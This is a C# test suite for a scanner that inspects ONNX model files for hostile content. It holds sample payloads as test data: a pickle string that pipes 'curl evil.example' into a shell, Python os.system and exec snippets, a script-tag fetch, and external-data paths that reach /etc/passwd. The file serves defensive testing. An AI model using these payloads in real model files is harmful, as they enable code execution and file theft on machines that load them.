using System.Security.Cryptography;
using Bulwark.Assessment;
using Bulwark.Defenses.Integrity;
using Bulwark.Engine;
using Bulwark.Onnx;
using Bulwark.Onnx.Proto;
using Bulwark.Tests.Onnx;
using Google.Protobuf;
using DataType = Bulwark.Onnx.Proto.TensorProto.Types.DataType;

namespace Bulwark.Tests.Defenses.Integrity;

/// <summary>One hostile model per rule: each must raise its rule, at its severity, at the right place.</summary>
public sealed class ModelFileScannerTests : IDisposable
{
    private readonly OnnxTestFiles _files = new();

    public void Dispose() => _files.Dispose();

    private ModelScanReport Scan(ModelProto model, ModelScanOptions? options = null) =>
        ModelFileScanner.Scan(TestModels.Write(model, _files.Folder, "model.onnx"), options);

    private static ModelScanFinding Single(ModelScanReport report, string rule, Severity severity)
    {
        var finding = Assert.Single(report.Findings, f => f.RuleId == rule);
        Assert.Equal(severity, finding.Severity);
        return finding;
    }

    [Fact]
    public void Clean_model_has_no_findings_and_reports_size_and_hash()
    {
        var report = Scan(TestModels.Clean());
        Assert.Empty(report.Findings);
        Assert.Null(report.Highest);
        byte[] bytes = File.ReadAllBytes(report.Path);
        Assert.Equal(bytes.Length, report.FileBytes);
        Assert.Equal(Convert.ToHexStringLower(SHA256.HashData(bytes)), report.Sha256);
    }

    [Fact]
    public void Every_rule_id_is_distinct() =>
        Assert.Equal(ModelFileScanner.RuleIds.Count, ModelFileScanner.RuleIds.Distinct().Count());

    [Fact]
    public void Missing_file_is_unreadable()
    {
        var report = ModelFileScanner.Scan(Path.Combine(_files.Folder, "absent.onnx"));
        Assert.Contains("not found", Single(report, "file-unreadable", Severity.High).What, StringComparison.Ordinal);
        Assert.Null(report.Sha256);
    }

    [Fact]
    public void File_above_the_size_limit_is_not_parsed()
    {
        var report = Scan(TestModels.Clean(), new ModelScanOptions { Limits = new OnnxReadLimits { MaxBytes = 16 } });
        Single(report, "file-too-large", Severity.High);
        Assert.DoesNotContain(report.Findings, f => f.RuleId == "model-malformed");
    }

    [Fact]
    public void Truncated_and_garbage_files_are_malformed()
    {
        byte[] bytes = TestModels.Clean().ToByteArray();
        var truncated = ModelFileScanner.Scan(_files.Write("truncated.onnx", bytes[..(bytes.Length / 2)]));
        Assert.Equal(truncated.Path, Single(truncated, "model-malformed", Severity.High).Where);

        var garbage = new byte[4096];
        new Random(7).NextBytes(garbage);
        var report = ModelFileScanner.Scan(_files.Write("garbage.onnx", garbage));
        Single(report, "model-malformed", Severity.High);
        Assert.Single(report.Findings);
    }

    [Fact]
    public void Sha256_is_compared_with_the_pinned_hash()
    {
        var clean = Scan(TestModels.Clean());
        Assert.Empty(Scan(TestModels.Clean(), new ModelScanOptions { ExpectedSha256 = "sha256:" + clean.Sha256!.ToUpperInvariant() }).Findings);

        var report = Scan(TestModels.Clean(), new ModelScanOptions { ExpectedSha256 = new string('0', 64) });
        Assert.Contains(clean.Sha256, Single(report, "sha256-mismatch", Severity.High).What, StringComparison.Ordinal);
        Assert.Throws<BulwarkInputException>(() => Scan(TestModels.Clean(), new ModelScanOptions { ExpectedSha256 = "abc" }));
    }

    [Fact]
    public void External_data_with_an_absolute_path_escapes()
    {
        var model = TestModels.Clean();
        model.Graph.Initializer.Add(TestModels.External("w", [4], ("location", "/etc/passwd")));
        var finding = Single(Scan(model), "external-data-escape", Severity.High);
        Assert.Contains("initializer 'w'", finding.Where, StringComparison.Ordinal);
        Assert.Contains("absolute", finding.What, StringComparison.Ordinal);
    }

    [Fact]
    public void External_data_climbing_out_with_dot_dot_escapes()
    {
        var model = TestModels.Clean();
        model.Graph.Initializer.Add(TestModels.External("w", [4], ("location", "sub/../../secret.bin")));
        Assert.Contains("'..'", Single(Scan(model), "external-data-escape", Severity.High).What, StringComparison.Ordinal);
    }

    [Fact]
    public void External_data_through_a_symlink_out_of_the_folder_escapes()
    {
        using var outside = new OnnxTestFiles();
        string secret = outside.Write("secret.bin", new byte[16]);
        File.CreateSymbolicLink(Path.Combine(_files.Folder, "weights.bin"), secret);
        var model = TestModels.Clean();
        model.Graph.Initializer.Add(TestModels.External("w", [4], ("location", "weights.bin")));
        Assert.Contains("symbolic link", Single(Scan(model), "external-data-escape", Severity.High).What, StringComparison.Ordinal);
    }

    [Fact]
    public void External_data_inside_the_folder_and_in_range_passes()
    {
        _files.Write("weights.bin", new byte[32]);
        Directory.CreateDirectory(Path.Combine(_files.Folder, "sub"));
        var model = TestModels.Clean();
        model.Graph.Initializer.Add(TestModels.External("w", [4], ("location", "weights.bin"), ("offset", "16"), ("length", "16")));
        model.Graph.Initializer.Add(TestModels.External("v", [8], ("location", "sub/../weights.bin")));
        Assert.Empty(Scan(model).Findings);
    }

    [Theory]
    [InlineData("missing.bin", "0", "16", "no such file")]
    [InlineData("weights.bin", "8", "16", "beyond")]
    [InlineData("weights.bin", "0", "12", "need 16 bytes")]
    [InlineData("weights.bin", "-4", "16", "not a non-negative integer")]
    public void External_data_missing_or_out_of_range_is_invalid(string location, string offset, string length, string expected)
    {
        _files.Write("weights.bin", new byte[16]);
        var model = TestModels.Clean();
        model.Graph.Initializer.Add(TestModels.External("w", [4], ("location", location), ("offset", offset), ("length", length)));
        var finding = Single(Scan(model), "external-data-invalid", Severity.High);
        Assert.Contains(expected, finding.What, StringComparison.Ordinal);
        Assert.Contains("initializer 'w'", finding.Where, StringComparison.Ordinal);
    }

    [Fact]
    public void Raw_data_shorter_than_the_shape_is_a_size_mismatch()
    {
        var model = TestModels.Clean();
        var tensor = OnnxTensors.FromFloats("w", [1, 2, 3], [3], DataType.Float);
        tensor.Dims[0] = 1000;
        model.Graph.Initializer.Add(tensor);
        var finding = Single(Scan(model), "tensor-size-mismatch", Severity.High);
        Assert.Contains("initializer 'w'", finding.Where, StringComparison.Ordinal);
        Assert.Contains("12 bytes", finding.What, StringComparison.Ordinal);
    }

    [Fact]
    public void Custom_domain_operator_is_high_unless_a_local_function()
    {
        var model = TestModels.WithNode(TestModels.Node("Exploit", "evil", ["X"], ["E"], "com.attacker"));
        var finding = Single(Scan(model), "custom-op-domain", Severity.High);
        Assert.Contains("'evil'", finding.Where, StringComparison.Ordinal);
        Assert.Contains("com.attacker", finding.What, StringComparison.Ordinal);

        var function = new FunctionProto { Domain = "com.attacker", Name = "Exploit" };
        function.Input.Add("x");
        function.Output.Add("y");
        function.Node.Add(TestModels.Node("Relu", "inner", ["x"], ["y"]));
        function.OpsetImport.Add(new OperatorSetIdProto { Version = 17 });
        model.Functions.Add(function);
        Assert.DoesNotContain(Scan(model).Findings, f => f.RuleId == "custom-op-domain");
    }

    [Fact]
    public void Unknown_standard_operator_is_medium()
    {
        var finding = Single(Scan(TestModels.WithNode(TestModels.Node("Reluu", "typo", ["X"], ["T"]))), "unknown-operator", Severity.Medium);
        Assert.Contains("'typo'", finding.Where, StringComparison.Ordinal);
    }

    [Fact]
    public void Dangling_input_and_unproduced_output_are_reported()
    {
        var model = TestModels.WithNode(TestModels.Node("Relu", "orphan", ["nowhere"], ["O"]));
        model.Graph.Output.Add(new ValueInfoProto { Name = "ghost" });
        var findings = Scan(model).Findings.Where(f => f.RuleId == "dangling-name").ToList();
        Assert.Equal(2, findings.Count);
        Assert.All(findings, f => Assert.Equal(Severity.Medium, f.Severity));
        Assert.Contains(findings, f => f.What.Contains("'nowhere'", StringComparison.Ordinal) && f.Where.Contains("'orphan'", StringComparison.Ordinal));
        Assert.Contains(findings, f => f.What.Contains("'ghost'", StringComparison.Ordinal));
    }

    [Fact]
    public void Subgraph_may_use_names_of_the_enclosing_graph()
    {
        var branch = new GraphProto { Name = "branch" };
        branch.Node.Add(TestModels.Node("Relu", "inner", ["bias"], ["B"]));
        branch.Output.Add(new ValueInfoProto { Name = "B" });
        var ifNode = TestModels.Node("If", "if", ["cond"], ["I"]);
        ifNode.Attribute.Add(new AttributeProto { Name = "then_branch", Type = AttributeProto.Types.AttributeType.Graph, G = branch });
        ifNode.Attribute.Add(new AttributeProto { Name = "else_branch", Type = AttributeProto.Types.AttributeType.Graph, G = branch.Clone() });
        var model = TestModels.WithNode(ifNode, OnnxTensors.FromIntegers("cond", [1], [], DataType.Bool));
        Assert.Empty(Scan(model).Findings);
    }

    [Fact]
    public void Two_nodes_producing_one_output_is_high()
    {
        var finding = Single(Scan(TestModels.WithNode(TestModels.Node("Neg", "shadow", ["X"], ["R"]))), "duplicate-name", Severity.High);
        Assert.Contains("'shadow'", finding.Where, StringComparison.Ordinal);
        Assert.Contains("'relu'", finding.What, StringComparison.Ordinal);

        var model = TestModels.Clean();
        model.Graph.Initializer.Add(model.Graph.Initializer[0].Clone());
        Single(Scan(model), "duplicate-name", Severity.Medium);
    }

    [Fact]
    public void ConstantOfShape_bomb_from_an_initializer_or_a_Constant_node()
    {
        var model = TestModels.WithNode(TestModels.Node("ConstantOfShape", "bomb", ["shape"], ["Z"]), TestModels.Int64s("shape", 100_000, 100_000, 100));
        var finding = Single(Scan(model), "constant-bomb", Severity.High);
        Assert.Contains("'bomb'", finding.Where, StringComparison.Ordinal);
        Assert.Contains("1e+12", finding.What, StringComparison.Ordinal);

        var constant = TestModels.Node("Constant", "c", [], ["shape"]);
        constant.Attribute.Add(new AttributeProto { Name = "value_ints", Type = AttributeProto.Types.AttributeType.Ints, Ints = { 1 << 20, 1 << 20 } });
        model = TestModels.Clean();
        model.Graph.Node.Add(constant);
        model.Graph.Node.Add(TestModels.Node("ConstantOfShape", "bomb", ["shape"], ["Z"]));
        Single(Scan(model), "constant-bomb", Severity.High);
    }

    [Fact]
    public void Small_constant_shapes_are_not_bombs()
    {
        var model = TestModels.WithNode(TestModels.Node("ConstantOfShape", "small", ["shape"], ["Z"]), TestModels.Int64s("shape", 1024, 1024, 64));
        model.Graph.Node.Add(TestModels.Node("Tile", "tile", ["bias", "reps"], ["T"]));
        model.Graph.Initializer.Add(TestModels.Int64s("reps", 1 << 20));
        Assert.Empty(Scan(model).Findings);
    }

    [Fact]
    public void Expand_bomb()
    {
        var model = TestModels.WithNode(TestModels.Node("Expand", "expand", ["X", "shape"], ["Z"]), TestModels.Int64s("shape", 1 << 16, 1 << 16));
        Assert.Contains("shape [65536, 65536]", Single(Scan(model), "constant-bomb", Severity.High).What, StringComparison.Ordinal);
    }

    [Fact]
    public void Tile_bomb_counts_the_constant_input_dimensions()
    {
        var model = TestModels.WithNode(TestModels.Node("Tile", "tile", ["bias", "reps"], ["Z"]), TestModels.Int64s("reps", 1L << 27));
        Assert.Contains("'tile'", Single(Scan(model), "constant-bomb", Severity.High).Where, StringComparison.Ordinal);
    }

    [Fact]
    public void Range_Pad_and_Resize_bombs()
    {
        var range = TestModels.WithNode(
            TestModels.Node("Range", "range", ["start", "limit", "delta"], ["Z"]),
            OnnxTensors.FromFloats("start", [0], [], DataType.Float),
            OnnxTensors.FromFloats("limit", [1e12f], [], DataType.Float),
            OnnxTensors.FromFloats("delta", [1], [], DataType.Float));
        Single(Scan(range), "constant-bomb", Severity.High);

        var pad = TestModels.WithNode(TestModels.Node("Pad", "pad", ["X", "pads"], ["Z"]), TestModels.Int64s("pads", 1 << 15, 1 << 15, 0, 0));
        Single(Scan(pad), "constant-bomb", Severity.High);

        var resize = TestModels.WithNode(
            TestModels.Node("Resize", "resize", ["X", "", "", "sizes"], ["Z"]),
            TestModels.Int64s("sizes", 1 << 15, 1 << 15));
        Single(Scan(resize), "constant-bomb", Severity.High);
    }

    [Fact]
    public void Pickle_payload_in_metadata_is_high()
    {
        var model = TestModels.Clean();
        model.MetadataProps.Add(new StringStringEntryProto { Key = "config", Value = "cos\nsystem\n(S'curl evil.example | sh'\ntR." });
        var finding = Single(Scan(model), "metadata-payload", Severity.High);
        Assert.Equal("metadata_props['config']", finding.Where);
        Assert.Contains("pickle", finding.What, StringComparison.Ordinal);
    }

    [Fact]
    public void Base64_of_an_ELF_header_in_a_doc_string_is_high()
    {
        var header = new byte[64];
        "\u007fELF"u8.CopyTo(header);
        header[4] = 2;
        header[5] = 1;
        var model = TestModels.Clean();
        model.Graph.Node[0].DocString = "weights note: " + Convert.ToBase64String(header);
        var finding = Single(Scan(model), "metadata-payload", Severity.High);
        Assert.Contains("base64", finding.What, StringComparison.Ordinal);
        Assert.Contains("ELF", finding.What, StringComparison.Ordinal);
        Assert.Contains("'relu'", finding.Where, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("import os; os.system('id')")]
    [InlineData("<script>fetch('//x')</script>")]
    [InlineData("MZ\u0090\0\u0003\0\0\0This program cannot be run in DOS mode")]
    [InlineData("__reduce__")]
    public void Other_payloads_in_producer_fields_are_high(string payload)
    {
        var model = TestModels.Clean();
        model.ProducerVersion = payload;
        Assert.Equal("producer_version", Single(Scan(model), "metadata-payload", Severity.High).Where);
    }

    [Fact]
    public void Very_long_string_is_low()
    {
        var model = TestModels.Clean();
        model.DocString = new string('a', 100);
        var report = Scan(model, new ModelScanOptions { MaxStringLength = 99 });
        Assert.Equal("doc_string", Single(report, "metadata-long-string", Severity.Low).Where);
        Assert.False(report.HasAtLeast(Severity.Medium));
    }

    [Fact]
    public void Deep_graph_nesting_is_reported_by_the_scan_and_refused_by_the_reader()
    {
        var model = TestModels.Clean();
        var graph = model.Graph;
        for (int depth = 1; depth <= 12; depth++)
        {
            var body = new GraphProto { Name = $"level{depth + 1}" };
            var node = TestModels.Node("If", $"if{depth}", ["cond"], []);
            node.Attribute.Add(new AttributeProto { Name = "then_branch", Type = AttributeProto.Types.AttributeType.Graph, G = body });
            graph.Node.Add(node);
            graph = body;
        }
        model.Graph.Initializer.Add(OnnxTensors.FromIntegers("cond", [1], [], DataType.Bool));
        var finding = Single(Scan(model), "graph-size", Severity.Medium);
        Assert.Contains("13 deep", finding.What, StringComparison.Ordinal);
        Assert.Contains("'if12'", finding.Where, StringComparison.Ordinal);
        var error = Assert.Throws<BulwarkInputException>(() => OnnxFile.ReadModel(Path.Combine(_files.Folder, "model.onnx")));
        Assert.Contains("nests graphs 11 deep, above the limit of 10", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Too_many_nodes_is_medium() =>
        Assert.Contains("2 nodes", Single(Scan(TestModels.Clean(), new ModelScanOptions { MaxNodes = 1 }), "graph-size", Severity.Medium).What, StringComparison.Ordinal);

    [Fact]
    public void Versions_outside_the_known_ranges()
    {
        var model = TestModels.Clean();
        model.OpsetImport[0].Version = 5;
        Single(Scan(model), "version-range", Severity.Low);

        model.OpsetImport.Clear();
        model.IrVersion = 99;
        var findings = Scan(model).Findings.Where(f => f.RuleId == "version-range").ToList();
        Assert.Equal(2, findings.Count);
        Assert.All(findings, f => Assert.Equal(Severity.Medium, f.Severity));
    }

    [Fact]
    public void Scanning_leaves_the_file_unchanged()
    {
        var model = TestModels.WithNode(TestModels.Node("Exploit", "evil", ["X"], ["E"], "com.attacker"));
        model.DocString = "exec(open('x').read())";
        string path = TestModels.Write(model, _files.Folder, "hostile.onnx");
        byte[] before = File.ReadAllBytes(path);
        var report = ModelFileScanner.Scan(path);
        Assert.True(report.HasAtLeast(Severity.High));
        Assert.Equal(before, File.ReadAllBytes(path));
    }
}
